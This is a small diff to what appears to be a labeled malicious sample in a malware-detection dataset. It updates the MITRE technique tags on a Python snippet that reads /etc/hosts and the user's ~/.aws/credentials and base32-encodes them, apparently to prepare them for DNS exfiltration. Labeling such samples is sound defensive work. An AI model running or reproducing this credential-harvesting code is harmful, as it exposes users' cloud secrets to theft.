@@ -1,4 +1,4 @@
-# label: malicious family=exfil techniques=T1048,T1071.004,T1552.001 lines=3,6
+# label: malicious family=exfil techniques=T1048.003,T1071.004,T1552.001 lines=3,6
 import base64, socket
 data = open("/etc/hosts", "rb").read() + open(__import__("os").path.expanduser("~/.aws/credentials"), "rb").read()
 enc = base64.b32encode(data).decode().rstrip("=").lower()
